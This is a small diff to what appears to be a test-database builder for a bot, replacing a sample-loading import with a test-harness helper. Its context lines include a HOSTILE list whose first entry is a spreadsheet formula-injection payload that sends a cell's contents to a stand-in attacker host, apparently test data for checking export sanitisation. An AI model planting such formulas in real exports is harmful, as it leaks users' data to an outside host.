@@ -14,8 +14,8 @@ from pathlib import Path
 import sqlite_utils
 
 from bot.catalog import catalog
-from bot.services.roster import load_sample
 from bot.store.db import connect, transaction
+from tests.harness import sample_roster
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?d="&C3,"详情")',
@@ -60,7 +60,7 @@ def build_db(
     db = connect(Path(path))
     with transaction(db):
         if counties == 0:
-            load_sample(db)
+            sample_roster(db)
         else:
             _roster(db, rng, counties, per_county, long_names, program.region)
         _users(db)
